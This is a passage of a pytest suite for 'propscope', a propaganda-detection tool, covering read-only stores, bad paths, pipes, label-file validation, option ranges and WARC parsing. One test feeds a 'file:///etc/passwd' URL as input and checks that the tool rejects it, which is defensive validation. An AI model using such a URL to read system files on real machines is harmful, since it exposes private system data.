    s.save_analyses([(s.pk_of("harbour"), fake_analysis(Article("harbour", story)))])
    s.engine.dispose()  # no -wal or -shm file left that could still be written
    journal = [db.with_name(db.name + end) for end in ("-wal", "-shm")]  # SQLite makes them even to read
    _unwritable(monkeypatch, *([db] if which == "file" else [db.parent, *journal]))
    for args, says in ((["report"], "1 analysed article"), (["search", "harbour"], story),
                       (["export", "--format", "jsonl"], story)):
        r = cli(*args, "--db", db)
        assert r.exit_code == 0 and says in r.stdout, (args, r.output)
    for args in (["ingest", "-"], ["topics"], ["analyze", "--model", "ngram"], ["reuse"]):
        r = cli(*args, "--db", db, input="A new story about the railway.")
        assert r.exit_code == 1 and r.stderr.count("\n") == 1, (args, r.output)
        assert f"cannot write to the store sqlite:///{db}: it is read-only" in r.stderr, (args, r.stderr)
    s = Store(str(db))
    assert s.read_only and s.count_articles() == 1
    with pytest.raises(StoreReadOnly):
        s.add_articles([Article("new", "A new story about the railway.")])
    with pytest.raises(sa.exc.OperationalError, match="readonly"), s.engine.begin() as conn:  # opened read-only
        conn.execute(sa.text("DELETE FROM articles"))
    assert s.count_articles() == 1


def test_a_read_only_store_serves_its_pages_and_refuses_posts_with_a_503(tmp_path, tiny_model, monkeypatch):
    db = tmp_path / "s.db"
    assert cli("ingest", "-", "--db", db, input="The harbour strike ended on Monday.").exit_code == 0
    _unwritable(monkeypatch, db)
    with TestClient(create_app(db=str(db), model=str(tiny_model))) as c:
        assert c.get("/api/articles").json()["total"] == 1 and c.get("/").status_code == 200
        r = c.post("/api/analyze", json={"text": "A new story about the railway."})
        assert r.status_code == 503 and "it is read-only" in r.json()["detail"] and str(db) not in r.text, r.text
        assert c.get("/api/articles").json()["total"] == 1


def test_a_store_in_a_folder_no_one_may_write_is_read_with_permissions_as_they_are(tmp_path):
    """With real permissions (file 0444, folder 0555), run without root's power to ignore them:
    SQLite cannot make the journal file a WAL store needs even to be read, so the store is read as
    immutable; before, every command said "attempt to write a readonly database"."""
    import shutil
    import subprocess
    import sys

    prefix = [] if os.geteuid() != 0 else [shutil.which("setpriv") or "setpriv",
                                           "--bounding-set=-dac_override,-dac_read_search,-fowner", "--"]
    if prefix and subprocess.run([*prefix, "true"], capture_output=True).returncode != 0:
        pytest.skip("cannot drop root's power to ignore file permissions here")
    folder = tmp_path / "ro"
    s = Store(str(folder / "s.db"))
    s.add_articles([Article("a1", "The harbour strike ended on Monday.")])
    s.engine.dispose()  # the last connection closed: SQLite removes the -wal and -shm files
    script = """if True:
        import json, sys
        from click.testing import CliRunner
        from propscope.cli import main
        got = {}
        for cmd in (["search", "harbour"], ["ingest", "-"]):
            r = CliRunner().invoke(main, [*cmd, "--db", sys.argv[1]], input="A new story about the railway.")
            got[cmd[0]] = [r.exit_code, r.stdout, r.stderr]
        print(json.dumps(got))"""
    (folder / "s.db").chmod(0o444)
    folder.chmod(0o555)
    try:
        out = subprocess.run([*prefix, sys.executable, "-c", script, str(folder / "s.db")], capture_output=True,
                             text=True, timeout=300)
    finally:
        folder.chmod(0o755)
        (folder / "s.db").chmod(0o644)
    got = json.loads(out.stdout.splitlines()[-1])
    assert got["search"][0] == 0 and "The harbour strike ended on Monday." in got["search"][1], got
    assert got["ingest"][0] == 1 and "it is read-only (its file cannot be written)" in got["ingest"][2], got
    assert sorted(p.name for p in folder.iterdir()) == ["s.db"]


@pytest.mark.parametrize("args", [["report"], ["search", "harbour"], ["export"], ["topics"]])
def test_a_command_needing_a_store_leaves_an_empty_file_as_it_is(tmp_path, args):
    """`report --db notes.txt` on an empty file (a mistyped name, one just made by `touch`) wrote
    a 135 KB SQLite store into it and reported "0 analysed articles"."""
    empty = tmp_path / "notes.txt"
    empty.touch()
    r = cli(*args, "--db", empty)
    assert r.exit_code == 1 and f"no store at {empty}: the file is empty" in r.stderr, r.output
    assert empty.read_bytes() == b""


@pytest.mark.parametrize("where", ["story.txt/store.db", "folder"])
def test_a_store_path_that_is_no_file_is_one_line(tmp_path, where):
    (tmp_path / "story.txt").write_text("A story.")
    (tmp_path / "folder").mkdir()
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "story.txt"), "--db", str(tmp_path / where)])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert ("cannot make its folder" if "/" in where else "is a folder: give --db the path of a file") in r.stderr


def test_a_large_max_bytes_is_a_limit_not_an_allocation(tmp_path):
    """stdin (a real pipe, as here) was read with read(max_bytes + 1), which allocates that much
    first: --max-bytes 10**18 was a MemoryError."""
    import subprocess
    import sys

    db = str(tmp_path / "s.db")
    run = [sys.executable, "-m", "propscope.cli", "ingest", "-", "--db", db, "--format", "json", "--max-bytes"]
    p = subprocess.run([*run, str(10**18)], input="A story from a pipe.", capture_output=True, text=True, timeout=120)
    assert p.returncode == 0 and json.loads(p.stdout)["new"] == 1, p.stderr
    p = subprocess.run([*run, "10"], input="Eleven bytes and more.", capture_output=True, text=True, timeout=120)
    assert p.returncode == 1 and "over the 10-byte limit" in p.stderr
    assert "11 bytes" not in p.stderr  # it read one byte past the limit: the input's size is not known


def test_batch_output_that_cannot_be_a_folder_is_one_line_before_the_cluster_starts(tmp_path):
    import os

    (tmp_path / "story.txt").write_text("A story.")
    os.mkfifo(tmp_path / "pipe")
    for output, says in ((tmp_path / "pipe", "it is not a folder"), (tmp_path / "story.txt" / "out", "Not a directory")):
        r = CliRunner().invoke(main, ["batch", str(tmp_path / "story.txt"), "--output", str(output),
                                      "--scheduler", "tcp://127.0.0.1:1"])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
        assert r.stderr.strip() == f"propscope: cannot write into {output}: {says}"


@pytest.mark.parametrize("marker", ["", '{"input": "ab', "[1]", "\xff"])
def test_a_damaged_batch_marker_means_the_partition_is_analysed_again(tmp_path, marker):
    """A partition's '.done' marker cut short (a crash while writing it) or written by hand was a
    JSONDecodeError traceback on every rerun of `propscope batch`; now the partition is redone."""
    part = tmp_path / "_input" / "part-00000.jsonl"
    part.parent.mkdir()
    part.write_text('{"id": "a", "text": "A story."}\n')
    out = tmp_path / "part-00000.jsonl"
    out.write_text("")
    out.with_suffix(".done").write_bytes(marker.encode("latin-1"))
    assert batch.is_done(part, out) is False
    out.with_suffix(".done").write_text(json.dumps({"input": batch._digest(part), "model": "m"}))
    assert batch.is_done(part, out, "m") is True


# -- SemEval label files (evaluate, classify-spans) ---------------------------------------------
def _span_task(tmp_path: Path) -> tuple[Path, Path]:
    """A folder with one article and a gold label file for it."""
    (tmp_path / "articles").mkdir()
    (tmp_path / "articles" / "article1.txt").write_text("Our glorious leader never fails.\n")
    (tmp_path / "gold.labels").write_text("1\tLoaded_Language\t4\t13\n")
    return tmp_path / "articles", tmp_path / "gold.labels"


def _run_limited(args: list[str]):
    """propscope in a child process that cannot hang or eat the machine: a device read to its end
    was an endless read (/dev/zero) and a pipe nobody writes to an endless wait."""
    import resource
    import subprocess
    import sys

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    return subprocess.run([sys.executable, "-m", "propscope.cli", *args], capture_output=True, text=True, timeout=120,
                          preexec_fn=limit)


def test_a_device_as_a_label_file_or_a_pipe_in_a_folder_is_refused_in_one_line(tmp_path):
    import os

    articles, gold = _span_task(tmp_path)
    os.mkfifo(articles / "article2.txt")  # nobody writes to it: reading it would wait forever
    for args, says in (
            (["evaluate", "--gold", "/dev/zero", "--articles", articles], "(a device or socket); give a label file"),
            (["classify-spans", articles, "/dev/zero"], "(a device or socket); give a label file"),
            (["evaluate", "--gold", gold, "--articles", articles], "(a device, pipe or socket); give a article file")):
        p = _run_limited([str(a) for a in args])
        assert p.returncode == 1 and p.stderr.count("\n") == 1, p.stderr
        assert "not a regular file " + says in p.stderr, p.stderr


def test_a_label_file_given_as_a_pipe_is_read_once_as_ingest_reads_one(tmp_path):
    """``--gold <(zcat gold.labels.gz)`` and /dev/stdin were refused as "not a regular file"; ingest
    reads a pipe given on its own (up to its byte limit), and so do the label readers now."""
    import os

    from propscope import paragraphs, ptc

    articles, gold = _span_task(tmp_path)
    pipes = [tmp_path / name for name in ("gold-pipe", "pred-pipe", "rows-pipe")]
    for pipe in pipes:
        os.mkfifo(pipe)

    def write(pipe: Path, data: bytes) -> None:
        try:
            pipe.write_bytes(data)
        except BrokenPipeError:  # the reader stopped at its limit
            pass

    def feed(pipe: Path, data: bytes) -> threading.Thread:
        thread = threading.Thread(target=write, args=(pipe, data), daemon=True)
        thread.start()
        return thread

    writers = [feed(pipes[0], gold.read_bytes()), feed(pipes[1], gold.read_bytes())]
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(pipes[0]), "--pred", str(pipes[1]),
                                  "--articles", str(articles)])
    assert r.exit_code == 0 and "FLC  P 1.0000  R 1.0000  F1 1.0000" in r.output, r.output + r.stderr
    writers.append(feed(pipes[2], b"1\t1\tDoubt\n"))
    assert paragraphs.read_rows(pipes[2]) == {("1", 1): ["Doubt"]}
    writers.append(feed(pipes[0], b"x" * (ingest.DEFAULT_MAX_BYTES + 10)))
    with pytest.raises(ValueError, match="a pipe over 10,000,000 bytes; write it to a file"):
        ptc.read_labels(pipes[0])
    for w in writers:
        w.join(timeout=10)


def test_a_compressed_label_file_is_named_as_such(tmp_path):
    import gzip as gz

    articles, gold = _span_task(tmp_path)
    packed = tmp_path / "pred.labels"
    packed.write_bytes(gz.compress(gold.read_bytes()))
    for args in (["evaluate", "--gold", packed, "--articles", articles],
                 ["evaluate", "--gold", gold, "--pred", packed, "--articles", articles],
                 ["classify-spans", articles, packed]):
        r = CliRunner().invoke(main, [str(a) for a in args])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
        assert r.stderr == f"propscope: {packed} is gzip-compressed; decompress it first (gunzip -k FILE)\n"


def test_gold_that_holds_no_label_lines_is_an_input_error_not_zero_scores(tmp_path):
    """Exit 1, as for the articles folder given as --gold and any other bad input file (an empty
    one exited 2, the code of an option used wrongly: click's usage errors, the serve and train checks)."""
    articles, gold = _span_task(tmp_path)
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(articles), "--articles", str(articles)])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)  # the articles folder given as the labels
    assert r.stderr.startswith(f"propscope: {articles}: no label files here") and "--articles" in r.stderr
    (tmp_path / "labels").mkdir()
    (tmp_path / "labels" / "empty.labels").write_text("\n")
    gold.write_text("")
    for empty in (gold, tmp_path / "labels"):
        r = CliRunner().invoke(main, ["evaluate", "--gold", str(empty), "--articles", str(articles)])
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {empty}: no label lines")
    r = CliRunner().invoke(main, ["classify-spans", str(articles), str(gold)])
    assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {gold}: no label lines")
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(gold)])  # an option missing: a usage error
    assert r.exit_code == 2 and "--articles" in r.stderr


@pytest.mark.parametrize("line", ["1\tLoaded_Language\t-3\t13", "1\tLoaded_Language\t13\t4", "1\tLoaded_Language\t4\t4",
                                  "1\tLoaded_Language\t4\t9999"])
@pytest.mark.parametrize("role", ["--gold", "--pred", "--tc-pred"])
def test_evaluate_refuses_a_span_outside_its_article(tmp_path, line, role):
    """A negative, reversed, empty or past-the-end span in the gold or the predictions was scored
    without a word (a reversed one dropped, one past the end counted as text the article lacks);
    classify-spans already refused them."""
    articles, gold = _span_task(tmp_path)
    bad = tmp_path / "bad.labels"
    bad.write_text(line + "\n")
    files = {"--gold": gold, "--pred": gold, "--tc-pred": gold, role: bad}
    r = CliRunner().invoke(main, ["evaluate", "--articles", str(articles), *(str(a) for kv in files.items() for a in kv)])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    start, end = line.split("\t")[2:]
    assert r.stderr == f"propscope: {bad}: span 1 {start}-{end} is empty or outside article 1 (33 characters)\n"


def test_evaluate_refuses_gold_articles_and_predictions_that_share_no_article(tmp_path):
    """Gold for other articles than --articles holds, an empty articles folder, or predictions for
    other articles than the gold's scored 0 everywhere with exit 0 (a warning at most), which
    reads as a result; predictions for a few articles the gold lacks are named in a warning."""
    articles, gold = _span_task(tmp_path)
    other = tmp_path / "other.labels"
    other.write_text("77\tLoaded_Language\t4\t13\n")
    (tmp_path / "empty").mkdir()
    for (g, a, p), says in [((other, articles, gold), "none of the 1 gold article ids has an article file in"),
                            ((gold, tmp_path / "empty", gold), "no article .txt files here"),
                            ((gold, articles, other), f"{other}: none of its 1 article ids is in the gold")]:
        r = CliRunner().invoke(main, ["evaluate", "--gold", str(g), "--articles", str(a), "--pred", str(p)])
        assert r.exit_code == 1 and says in r.stderr and len(r.stderr.splitlines()) == 1, r.output
    mixed = tmp_path / "mixed.labels"
    mixed.write_text(gold.read_text() + other.read_text())
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(gold), "--articles", str(articles), "--pred", str(mixed),
                                  "--format", "json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["si"]["overall"]["predicted"] == 2
    assert r.stderr == ("propscope: warning: 1 predicted article ids are not in the gold, e.g. 77; their spans count "
                        "as false positives\n")


def test_span_labels_outside_the_taxonomy_are_named_with_their_counts(tmp_path):
    """A mistyped technique name in a span label file ('Loaded_Languge') was scored in silence as
    wrong everywhere; it is named on stderr with its count. The EMNLP-2019 corpus's six techniques
    beyond PTC-14 are scored without a warning, as that corpus uses them."""
    articles, gold = _span_task(tmp_path)
    pred = tmp_path / "pred.labels"
    pred.write_text("1\tLoaded_Languge\t4\t13\n1\tLoaded_Languge\t14\t20\n1\tRed_Herring\t0\t3\n"
                    "1\tLoaded_Language\t21\t26\n")
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(gold), "--articles", str(articles), "--pred", str(pred),
                                  "--format", "json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["flc"]["overall"]["predicted"] == 4
    assert r.stderr == (f"propscope: warning: {pred}: 3 labels name no technique of ptc14, scored as wrong wherever "
                        "they are: Loaded_Languge (2), Red_Herring (1); see `propscope techniques --taxonomy ptc14`\n")
    emnlp = tmp_path / "emnlp.labels"
    emnlp.write_text("1\tRed_Herring\t0\t3\n1\tObfuscation,Intentional_Vagueness,Confusion\t4\t13\n")
    for g, p in ((gold, emnlp), (emnlp, gold)):
        r = CliRunner().invoke(main, ["evaluate", "--gold", str(g), "--articles", str(articles), "--pred", str(p),
                                      "--format", "json"])
        assert r.exit_code == 0 and r.stderr == "" and "flc" in json.loads(r.stdout)
    typo_gold = tmp_path / "typo-gold.labels"
    typo_gold.write_text("1\tDoubtt\t4\t13\n")
    r = CliRunner().invoke(main, ["evaluate", "--gold", str(typo_gold), "--articles", str(articles), "--pred", str(gold)])
    assert r.exit_code == 0 and f"warning: {typo_gold}: 1 labels name no technique of ptc14" in r.stderr
    assert "Doubtt (1)" in r.stderr


def test_paragraph_gold_labels_outside_the_taxonomy_are_named(tmp_path):
    """The official scorer leaves gold labels that are no technique of the taxonomy out; a gold
    for another taxonomy (or with a misspelt technique) scored without a word."""
    pred = tmp_path / "pred.tsv"
    pred.write_text("1\t1\tDoubt\n")
    wrong, half = tmp_path / "wrong.tsv", tmp_path / "half.tsv"
    wrong.write_text("1\t1\tLoaded_Languag\n")
    half.write_text("1\t1\tDoubt,Loaded_Languag\n")
    r = CliRunner().invoke(main, ["evaluate", "--taxonomy", "semeval2023", "--gold", str(wrong), "--pred", str(pred)])
    assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {wrong}: none of its labels is a technique of semeval2023 "
                                                    "(Loaded_Languag)")
    r = CliRunner().invoke(main, ["evaluate", "--taxonomy", "semeval2023", "--gold", str(half), "--pred", str(pred)])
    assert r.exit_code == 0 and "micro-F1 1.0000" in r.stdout
    assert r.stderr == (f"propscope: warning: {half}: 1 gold labels are no technique of semeval2023 and are not scored "
                        "(Loaded_Languag)\n")


def test_a_label_or_article_file_not_in_utf8_gets_the_windows_1252_advice(tmp_path):
    articles, gold = _span_task(tmp_path)
    (articles / "article2.txt").write_bytes("\u201cquoted\u201d".encode("windows-1252"))
    for args in (["evaluate", "--gold", gold, "--articles", articles], ["classify-spans", articles, gold]):
        r = CliRunner().invoke(main, [str(a) for a in args])
        assert r.exit_code == 1
        assert r.stderr == (f"propscope: {articles / 'article2.txt'}: not valid UTF-8 (byte 0); convert it, "
                            "e.g. iconv -f windows-1252 -t utf-8\n")


def test_ptc_lines_escape_tabs_and_line_breaks_in_article_ids(tmp_path, monkeypatch):
    """A file name with a newline gave an id with one: its ptc line broke in two."""
    from propscope import cli as cli_module
    from propscope import export, pipeline
    from propscope.document import Span
    from propscope.ptc import parse_label_lines

    def spans(items, *_):
        return (Analysis(a, [Span(0, 3, "Loaded_Language", 0.9)], [], 0.9, "fake") for a in items)

    monkeypatch.setattr(cli_module, "_load_model", lambda *a, **k: None)
    monkeypatch.setattr(pipeline, "analyze_iter", spans)
    names = ["new\nline", "tab\tbed", "back\\slash", "para\u2028sep"]
    for n in names:
        (tmp_path / f"{n}.txt").write_text("Our glorious leader.")
    r = CliRunner().invoke(main, ["analyze", "--format", "ptc", *(str(tmp_path / f"{n}.txt") for n in names)])
    assert r.exit_code == 0, r.stderr
    lines = r.stdout.split("\n")[:-1]
    assert len(lines) == 4 and all(len(line.split("\t")) == 4 for line in lines)
    assert sorted(art for art, *_ in parse_label_lines(r.stdout.splitlines())) == sorted(names)
    exported = "".join(export.export([Analysis(Article("a\nb", "Our glorious leader."),
                                               [Span(0, 3, "Loaded_Language", 0.9)], [], 0.9, "fake")], "ptc"))
    assert exported == "a\\nb\tLoaded_Language\t0\t3\n"


def test_paragraph_rows_read_like_label_files_and_escape_ids(tmp_path):
    """``evaluate --taxonomy semeval2023`` read its rows with read_text: /dev/zero never ended, a
    gzip file was a decode error, and a newline in an id broke its row in two."""
    import gzip as gz

    from propscope import paragraphs

    gold = tmp_path / "gold.txt"
    gold.write_text("1\t1\tLoaded_Language\n1\t2\t\n")
    packed = tmp_path / "pred.txt"
    packed.write_bytes(gz.compress(gold.read_bytes()))
    for bad, says in (("/dev/null", "/dev/null: not a regular file (a device or socket)"),
                      (str(packed), f"{packed} is gzip-compressed; decompress it first")):
        r = CliRunner().invoke(main, ["evaluate", "--taxonomy", "semeval2023", "--gold", str(gold), "--pred", bad])
        assert r.exit_code == 1 and r.stderr.count("\n") == 1 and says in r.stderr, r.stderr
    rows = "".join(paragraphs.format_rows("odd\nname\t1", [(1, ["Doubt"]), (2, [])]))
    assert rows == "odd\\nname\\t1\t1\tDoubt\nodd\\nname\\t1\t2\t\n"
    assert paragraphs.parse_rows(rows.split("\n")) == {("odd\nname\t1", 1): ["Doubt"], ("odd\nname\t1", 2): []}


# -- a second audit from a user's side (each of these was a traceback, a hang, or a silent surprise) --
@pytest.mark.parametrize("command", ["ingest", "analyze", "sources", "reuse"])
def test_an_empty_argument_is_refused_not_read_as_the_current_folder(tmp_path, monkeypatch, command):
    """``propscope ingest "$FILE"`` with FILE unset passed "", which Path read as ".": every page
    in the current folder was stored or analysed without a word."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "private.txt").write_text("A private note that nobody asked to analyse.")
    db = f"sqlite:///{tmp_path / 's.db'}"
    args = [command, "", "--db", db] if command != "sources" else [command, ""]
    if command == "analyze":
        args += ["--model", "ngram"]
    r = cli(*args)
    assert r.exit_code == 1 and "skipped '': an empty name" in r.stderr, r.output
    assert "private" not in r.stdout
    if command != "sources":
        assert Store(db).count_articles() == 0


def test_a_bad_line_in_a_urls_file_costs_only_itself(tmp_path, monkeypatch):
    """One line that was no URL (a typo, a file:// link) rejected the whole .urls file, so none
    of its good links was fetched."""
    fetched = []

    def fake_read_url(url, opts):
        fetched.append(url)
        yield Article(id=url, text=f"The page at {url}.", url=url)

    monkeypatch.setattr(ingest, "read_url", fake_read_url)
    links = tmp_path / "links.urls"
    links.write_text("# monday\nhttps://news.example/a\nfile:///etc/passwd\n\nnot a link\nhttps://news.example/b\n")
    got = list(read_inputs([str(links)]))
    assert fetched == ["https://news.example/a", "https://news.example/b"]
    assert [str(g) for g in got if isinstance(g, Rejected)] == [
        f"{links}:3: only http:// and https:// URLs can be fetched, not file:",
        f"{links}:5: not a URL: a .urls file holds one http(s) URL per line"]
    (tmp_path / "none.urls").write_text("# nothing yet\n")
    assert [g.reason for g in read_inputs([str(tmp_path / "none.urls")])] == [
        "lists no URL: a .urls file holds one http(s) URL per line"]


@pytest.mark.parametrize("args, option", [
    (["reuse", "--min-chars", "0", "a.txt"], "--min-chars"),
    (["reuse", "--min-chars", "-5", "a.txt"], "--min-chars"),
    (["search", "harbour", "--limit", str(2**70)], "--limit"),
    (["report", "--top", str(2**70)], "--top"),
    (["topics", "--seed", "-1"], "--seed"),
    (["topics", "--seed", str(2**40)], "--seed"),
])
def test_numbers_out_of_range_are_usage_errors(tmp_path, monkeypatch, args, option):
    """Each was a traceback: reuse's ValueError for a passage length under 1, the store's
    OverflowError for a count past 64 bits, scikit-learn's error for a seed outside 0..2**32-1."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The harbour story, told once.")
    db = f"sqlite:///{tmp_path / 's.db'}"
    for n in range(2):
        cli("ingest", "-", "--db", db, input=f"Story {n} about the harbour and the rail line.")
    r = cli(*args, "--db", db)
    assert r.exit_code == 2 and f"Invalid value for '{option}'" in r.stderr, r.output


@pytest.mark.parametrize("args, option", [
    (["reuse", "a.txt", "--similarity", "nan"], "--similarity"),
    (["analyze", "a.txt", "--threshold", "NaN"], "--threshold"),
    (["train", "--lr", "inf"], "--lr"),
    (["train", "--head-lr", "nan"], "--head-lr"),
])
def test_a_number_that_is_no_finite_number_is_a_usage_error(tmp_path, monkeypatch, args, option):
    """nan compares false with both ends of a range, so it passed every range check: `reuse
    --similarity nan` was a traceback, `analyze --threshold nan` showed no span (all hidden, in
    silence), and `train --lr inf` passed as a positive learning rate."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The harbour story, told once.")
    r = cli(*args)
    assert r.exit_code == 2 and f"Invalid value for '{option}'" in r.stderr and "not a finite number" in r.stderr, (
        r.output)


@pytest.mark.parametrize("command", ["reuse", "batch"])
@pytest.mark.parametrize("workers", ["0", "100000"])
def test_a_local_cluster_of_no_or_countless_workers_is_a_usage_error(tmp_path, monkeypatch, command, workers):
    """local[0] was a ZeroDivisionError traceback; local[100000] kept starting worker processes
    (a run stopped by a 300 s timeout) before a word was said."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The harbour story, told once.")
    args = [command, "a.txt", "--scheduler", f"local[{workers}]"] + (["-o", "out"] if command == "batch" else [])
    r = cli(*args)
    assert r.exit_code == 2 and "local[N] starts N worker processes" in r.stderr, r.output
    assert not Path("out").exists()


@pytest.mark.parametrize("text, error, says", [
    (b"They are traitors.", TypeError, "not bytes: decode it first"),
    (None, TypeError, "takes a str or an Article, not NoneType"),
    (42, TypeError, "takes a str or an Article, not int"),
    (["one", "two"], TypeError, "analyze_batch(texts)"),
    (Article(id="x", text=5), TypeError, "an Article whose text is int"),
    ("They are \ud800 traitors.", ValueError, "lone surrogate ('\\ud800' at index 9)"),
])
def test_the_python_api_names_a_wrong_type_before_loading_a_model(monkeypatch, text, error, says):
    """Each failed deep in the tokenizer ("'int' object has no attribute 'isalpha'", "TextEncodeInput
    must be Union[...]") or as an unhashable model name, after loading the model."""
    import propscope
    from propscope import pipeline

    monkeypatch.setattr(pipeline, "load_model", lambda *a, **k: pytest.fail("loaded a model for a bad text"))
    with pytest.raises(error) as e:
        propscope.analyze(text, model="fast")
    assert says in str(e.value)
    with pytest.raises(TypeError, match="model must be a model name"):
        propscope.analyze("A story.", model=3)


def test_a_topic_the_store_does_not_hold_is_named_on_the_web_as_on_the_command_line(client, db_url):
    """`search --topic` refuses a label the store lacks; the web answered a typo with an empty list
    (200), which reads as a topic with no articles. The API's answer is a 404: the stored topics
    change with the store, so its schema cannot list them, and a schema-valid request is no 422."""
    from propscope.topics import Topic, Topics

    Store(db_url).save_topics(Topics([Topic(0, "harbour, port, ship", ["harbour", "port", "ship"])], {}))
    r = client.get("/api/articles", params={"topic": "harbor, port, ship"})
    assert r.status_code == 404 and "no stored topic 'harbor, port, ship'; the topics are: harbour, port, ship" in r.text
    assert client.get("/api/articles", params={"topic": "harbour, port, ship"}).status_code == 200
    assert client.get("/search.csv", params={"topic": "harbor"}).status_code == 400
    page = client.get("/search", params={"topic": "harbor"})
    assert page.status_code == 200 and "no stored topic &#39;harbor&#39;" in page.text


def _warc_members(warc: bytes, gz: bool) -> list[bytes]:
    """A WARC's records as written: its gzip members, or its plain records."""
    import zlib

    if not gz:
        return [b"WARC/1.0\r\n" + r for r in warc.split(b"WARC/1.0\r\n")[1:]]
    members = []
    while warc:
        d = zlib.decompressobj(31)
        d.decompress(warc)
        members.append(warc[:len(warc) - len(d.unused_data)])
        warc = d.unused_data
    return members


@pytest.mark.parametrize("gz", [True, False])
def test_a_skipped_stretch_of_a_warc_counts_the_records_it_held(tmp_path, gz):
    """Reading on after damage counted whatever it skipped as one record: junk between records
    was "corrupt record 2" and two damaged members one, so every later record had the wrong number
    and the user could not tell how many pages were lost."""
    m = _warc_members(make_warc(tmp_path / "w", 6, gz=gz), gz)
    p = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    if gz:  # members 2, 3 and 5 damaged: deflate data zeroed after the gzip header (an invalid stored block, so
        # the error comes at once whatever the random record ids compress to; a member cut short could run on)
        def zeroed(member: bytes) -> bytes:
            return member[:10] + b"\0" * 40 + member[50:]

        p.write_bytes(m[0] + zeroed(m[1]) + zeroed(m[2]) + m[3] + zeroed(m[4]) + m[5])
    else:
        p.write_bytes(m[0] + b"junk between records\r\n" * 3 + m[1] + m[2][:len(m[2]) // 2] + m[3])
    items = list(read_inputs([str(p)]))
    pages = [i.url.rsplit("/", 1)[1] for i in items if isinstance(i, Article)]
    bad = [str(i) for i in items if isinstance(i, Rejected)]
    if gz:
        assert pages == ["0", "3", "5"], items
        assert f"{p}#2: 2 corrupt WARC/ARC records, 2 to 3, at bytes" in bad[0] and "record 4 at byte" in bad[0]
        assert bad[1].startswith(f"{p}#5: corrupt WARC/ARC record 5 at bytes"), bad
    else:
        assert pages == ["0", "1", "3"], items
        assert bad[0].startswith(f"{p}: 66 bytes that are no WARC/ARC record at bytes") and "(after record 1)" in bad[0]
        assert "record 2 at byte" in bad[0]
        assert bad[1].startswith(f"{p}#3: record 3 (at byte"), bad
    assert len(bad) == 2


@pytest.mark.parametrize("day, says", [("2026-02-30", "is no day of the calendar"), ("2026-13", "is no day of the calendar"),
                                       ("yesterday", "is not a date: give YYYY-MM-DD or YYYY-MM")])
def test_a_day_the_calendar_lacks_is_named_as_such(tmp_path, day, says):
    """click said '2026-02-30' "does not match the formats '%Y-%m-%d', '%Y-%m'", though it does."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    cli("ingest", "-", "--db", db, input="A story about the harbour.")
    for command in ("report", "export"):
        r = cli(command, "--since", day, "--db", db)
        assert r.exit_code == 2 and says in r.stderr and "does not match" not in r.stderr, r.output
    assert cli("report", "--since", "2024-02-29", "--until", "2026-02", "--db", db).exit_code == 0


def test_until_a_month_takes_the_whole_month_and_a_reversed_range_is_a_usage_error(tmp_path):
    """`export --until 2020-01` stopped at 2020-01-01 (the web's dashboard reads the same month
    to its last day), and --since after --until exported or reported nothing with exit 0."""
    import datetime as dt

    db = str(tmp_path / "s.db")
    s = Store(db)
    days = ["2020-01-01", "2020-01-31", "2020-02-01"]
    s.add_articles([Article(f"d{d}", f"A story of {d}.", published=dt.date.fromisoformat(d)) for d in days])
    s.save_analyses([(s.pk_of(f"d{d}"), fake_analysis(s.get_article(f"d{d}"))) for d in days])
    r = cli("export", "--db", db, "--until", "2020-01")
    assert r.exit_code == 0 and sorted(json.loads(line)["id"] for line in r.stdout.splitlines()) == ["d2020-01-01",
                                                                                                   "d2020-01-31"]
    for command in ("export", "report"):
        r = CliRunner().invoke(main, [command, "--db", db, "--since", "2020-02", "--until", "2020-01"])
        assert r.exit_code == 2 and "2020-02-01 is after --until 2020-01-31: nothing can match; swap them" in r.stderr


@pytest.mark.parametrize("args", [["analyze", "a.txt", "--model", ""], ["analyze", "a.txt", "--model", "ngram",
                                  "--taxonomy", " "], ["techniques", "--taxonomy", ""], ["export", "--taxonomy", ""]])
def test_an_empty_model_or_taxonomy_name_is_a_usage_error(tmp_path, monkeypatch, args):
    """``--model "$MODEL"`` with MODEL unset ran the default model without a word; an empty
    --taxonomy listed the default one, or said "no mapping from ptc14 to  is defined"."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The harbour story, told once.")
    r = cli(*args)
    assert r.exit_code == 2 and "is empty: give a name" in r.stderr, r.output


@pytest.mark.parametrize("cut", [None, 300])
def test_gzipped_text_named_warc_gz_is_not_a_warc(tmp_path, cut):
    """warcio takes a line with spaces for an ARC record header: gzipped text named .warc.gz was
    "no HTML responses found", and cut short, "the 1 record before the cut were read"."""
    data = gzip.compress(b"word " * 100_000)
    p = tmp_path / "crawl.warc.gz"
    p.write_bytes(data[:cut] if cut else data)
    [r] = read_inputs([str(p)])
    assert r.reason.startswith("not a WARC/ARC file: it opens with 'word word"), r
    assert "record" not in r.reason.split("header")[0]
    good = tmp_path / "good.warc.gz"
    make_warc(good, 2)
    assert len([a for a in read_inputs([str(good)]) if isinstance(a, Article)]) == 2


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-32"])
def test_a_utf16_file_posted_to_the_form_is_read_as_the_command_line_reads_it(client, codec):
    """`propscope analyze` reads a UTF-16 or UTF-32 file (Windows "Unicode" text); the same file
    posted to the form (`curl -F text=@story.txt`) was "not UTF-8 text"."""
    text = "A story saved by Notepad as Unicode, with café and naïve."
